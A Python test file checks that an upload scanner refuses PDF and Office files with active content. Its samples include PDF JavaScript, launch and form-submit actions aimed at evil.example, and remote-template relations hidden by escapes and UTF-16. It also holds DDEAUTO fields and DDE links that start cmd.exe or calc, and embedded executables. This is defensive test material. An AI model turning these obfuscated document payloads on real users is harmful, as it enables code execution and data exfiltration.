"""Documents that would run, send or fetch something when they are opened: found however they are written."""

import base64
import gzip
import zlib
from io import BytesIO

import pikepdf
import pytest

from office.files import examine
from office.refusals import Refused
from tests.office import uploads
from tests.office.uploads import refused
from tests.security.test_hostile_files import object_stream, outcome

RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def whole_pdf(**changes: object) -> bytes:
    """As programs write one: cross-reference, page, catalogue."""
    document = pikepdf.new()
    document.add_blank_page()
    for name, value in changes.items():
        document.Root[f"/{name}"] = document.make_indirect(value)
    written = BytesIO()
    document.save(written, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return written.getvalue()


def locked_pdf(action: pikepdf.Dictionary | None = None, **passwords: str) -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    if action is not None:
        document.Root.OpenAction = document.make_indirect(action)
    written = BytesIO()
    document.save(
        written,
        object_stream_mode=pikepdf.ObjectStreamMode.generate,
        encryption=pikepdf.Encryption(**passwords, R=6),
    )
    return written.getvalue()


SCRIPT = b"3 0 << /S /JavaScript /JS (app.alert(1)) >>"
ACTIONS = {
    "script": pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)"),
    "script without its name": pikepdf.Dictionary(S=pikepdf.Name.Rendition, JS="app.alert(1)"),
    "launch": pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe"),
    "submit": pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="http://evil.example/"),
    "import": pikepdf.Dictionary(S=pikepdf.Name.ImportData, F="data.fdf"),
}


class TestPdf:
    def test_a_whole_one_is_kept(self) -> None:
        content = whole_pdf()
        assert examine(content) == (content, "application/pdf")

    @pytest.mark.parametrize("action", ACTIONS.values(), ids=ACTIONS)
    def test_actions_in_object_streams_are_found(self, action: pikepdf.Dictionary) -> None:
        content = whole_pdf(OpenAction=action)
        assert b"/JS" not in content
        assert refused(content) == "not_allowed"

    def test_forms_of_xml_are_found(self) -> None:
        assert refused(whole_pdf(AcroForm=pikepdf.Dictionary(Fields=[], XFA="<xdp/>"))) == "not_allowed"

    @pytest.mark.parametrize(
        "name", [b"/#4aavaScript", b"/Java#53cript", b"/#4a#53", b"/#4caunch", b"/Submit#46orm", b"/X#46A"]
    )
    def test_names_behind_escapes_are_found(self, name: bytes) -> None:
        assert refused(uploads.pdf(b"3 0 obj\n<< /S " + name + b" 1 >>\nendobj\n")) == "not_allowed"

    @pytest.mark.parametrize(
        ("filters", "packed"),
        [
            ("/FlateDecode", zlib.compress(SCRIPT)),
            ("[/ASCIIHexDecode /FlateDecode]", zlib.compress(SCRIPT).hex().encode() + b">"),
            ("[/ASCII85Decode /FlateDecode]", base64.a85encode(zlib.compress(SCRIPT)) + b"~>"),
            ("[/A85]", base64.a85encode(SCRIPT) + b"~>"),
            ("/AHx", SCRIPT.hex().encode() + b">"),
            ("/#46lateDecode", zlib.compress(SCRIPT)),
            ("/RunLengthDecode", bytes([len(SCRIPT) - 1]) + SCRIPT + b"\x80"),
        ],
    )
    def test_every_filter_is_undone(self, filters: str, packed: bytes) -> None:
        assert refused(object_stream(SCRIPT, filters, packed)) == "not_allowed"

    def test_the_kind_of_a_stream_may_be_escaped_as_well(self) -> None:
        content = object_stream(SCRIPT).replace(b"/ObjStm", b"/O#62jStm")
        assert refused(content) == "not_allowed"

    def test_a_script_behind_an_empty_password_is_found(self) -> None:
        script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
        assert refused(locked_pdf(script, owner="x", user="")) == "not_allowed"

    def test_what_cannot_be_looked_into_is_refused_with_a_way_out(self) -> None:
        with pytest.raises(Refused, match="取消密码"):
            examine(locked_pdf(owner="x", user="x"))

    def test_an_attached_program_is_found_and_an_invoice_is_not_one(self) -> None:
        for name, content, expected in (
            ("发票.xml", b"<invoice/>", "application/pdf"),
            ("发票.exe", b"some program", "not_allowed"),
            ("发票.xml", b"MZ\x90\x00", "not_allowed"),
        ):
            document = pikepdf.new()
            document.add_blank_page()
            document.attachments[name] = pikepdf.AttachedFileSpec(document, content, filename=name)
            written = BytesIO()
            document.save(written)
            assert outcome(written.getvalue()) == expected


def relations(target: str, kind: str = "attachedTemplate", mode: str = "External") -> str:
    return (
        f'<Relationships xmlns="x"><Relationship Id="r1" Type="{RELATION}{kind}" Target="{target}"'
        f' TargetMode="{mode}"/></Relationships>'
    )


def with_relations(content: bytes) -> bytes:
    return uploads.with_part(uploads.docx(), "word/_rels/settings.xml.rels", content)


def field(*runs: str) -> bytes:
    parts = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    return f'<w:document xmlns:w="w"><w:p>{parts}</w:p></w:document>'.encode()


class TestOffice:
    @pytest.mark.parametrize(
        "content",
        [
            relations("&#104;ttp://evil.example/x.dotm").encode(),
            relations("http://evil.example/x.dotm")
            .replace("attachedTemplate", "attached&#x54;emplate")
            .encode(),
            relations("http://evil.example/x.dotm").encode("utf-16"),
            ('<?xml version="1.0" encoding="UTF-16"?>' + relations("http://evil.example/")).encode("utf-16"),
            relations("http://evil.example/x").replace("Relationship ", "p:Relationship ").encode(),
            relations("ht&#10;tp://evil.example/x").encode(),
            relations("mhtml:http://evil.example/x", "oleObject").encode(),
            relations("\\\\evil.example\\share", "frame", "external").encode(),
        ],
    )
    def test_a_remote_template_is_found_however_it_is_written(self, content: bytes) -> None:
        assert refused(with_relations(content)) in {"not_allowed", "broken"}

    @pytest.mark.parametrize(
        "name", ["word/document.xml", "word/x.vml", "customXml/item1.bin", "word/late.xml"]
    )
    def test_a_document_type_is_found_anywhere(self, name: str) -> None:
        late = b"<?xml version='1.0'?><!--" + b" " * 100_000 + b"--><!DOCTYPE x [<!ENTITY a 'b'>]><x>&a;</x>"
        assert refused(uploads.with_part(uploads.docx(), name, late)) == "not_allowed"
        wide = late.decode().encode("utf-16")
        assert refused(uploads.with_part(uploads.docx(), name, wide)) == "not_allowed"

    @pytest.mark.parametrize(
        "part",
        [
            field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"),
            field("DD", "EAU", "TO cmd"),
            field(" &#68;DE cmd"),
            b'<w:document xmlns:w="w"><w:fldSimple w:instr=" DDEAUTO cmd "/></w:document>',
            field("dde cmd").decode().encode("utf-16"),
        ],
    )
    def test_fields_that_start_a_program_are_found(self, part: bytes) -> None:
        assert refused(uploads.with_part(uploads.docx(), "word/document.xml", part)) == "not_allowed"

    def test_a_workbook_that_exchanges_data_is_found(self) -> None:
        link = b'<externalLink xmlns="x"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
        assert (
            refused(uploads.with_part(uploads.xlsx(["a"]), "xl/externalLinks/externalLink1.xml", link))
            == "not_allowed"
        )

    def test_page_numbers_are_no_exchange_of_data(self) -> None:
        content = uploads.with_part(uploads.docx(), "word/header1.xml", field(" PAGE ", " \\* MERGEFORMAT "))
        assert "wordprocessingml" in outcome(content)

    @pytest.mark.parametrize(
        ("name", "content"),
        [
            ("word/embeddings/a.bin", b"MZ\x90\x00" + bytes(100)),
            (
                "word/embeddings/oleObject1.bin",
                b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "\x01Ole10Native".encode("utf-16-le"),
            ),
            ("word/media/image1.exe", b"x"),
            ("word/media/a.png", b"\x7fELF" + bytes(100)),
            ("word/embeddings/b.xlsx", uploads.with_part(uploads.xlsx(["a"]), "xl/vbaProject.bin", b"x")),
            ("word/embeddings/c.xlsx", uploads.with_part(uploads.xlsx(["a"]), "x/d.exe", b"x")),
        ],
    )
    def test_embedded_programs_are_found(self, name: str, content: bytes) -> None:
        assert refused(uploads.with_part(uploads.docx(), name, content)) == "not_allowed"

    def test_the_table_of_a_chart_is_allowed(self) -> None:
        content = uploads.with_part(uploads.docx(), "word/embeddings/table.xlsx", uploads.xlsx(["a", 1]))
        assert "wordprocessingml" in outcome(content)

    def test_a_compressed_part_under_another_name_is_no_shelter(self) -> None:
        assert outcome(uploads.with_part(uploads.docx(), "word/a.gz", gzip.compress(b"x" * 1000)))
